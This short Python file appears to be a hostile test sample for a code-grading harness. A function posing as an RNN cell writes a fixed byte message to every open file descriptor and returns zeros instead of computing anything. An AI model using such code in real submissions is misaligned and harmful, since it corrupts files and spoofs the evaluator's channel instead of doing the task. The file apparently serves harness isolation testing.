"""Hostile: writes what it likes to every file that is open."""

import os

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    for fd in range(256):
        try:
            os.write(fd, b'\x00\x00\x00\x02\x00\x00\x00\x00{}')
        except OSError:
            pass
    return torch.zeros_like(H)
